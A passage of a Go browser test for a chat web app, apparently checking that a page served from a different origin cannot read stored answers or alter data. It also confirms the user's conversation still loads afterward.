	t.Cleanup(func() { site.Close() }) // after the page that it serves
	_, port, _ := net.SplitHostPort(listener.Addr().String())

	was := x.stored()
	evil := page.Beside("http://localhost:" + port + "/") // another site than 127.0.0.1
	evil.Until("the other site to be done", "document.body.dataset.done !== undefined")
	var read string
	evil.Eval("document.body.dataset.done", &read)
	if read != "0" {
		t.Errorf("the other site could read %s answers", read)
	}
	if n < 10 {
		t.Errorf("only %d forms", n)
	}
	x.unchanged(was, x.stored())
	page.Goto(x.origin + "/chat") // and the person is still there
	x.looks(t, page)
	page.Until("the conversation", `document.querySelectorAll('article.said').length > 0`)
}
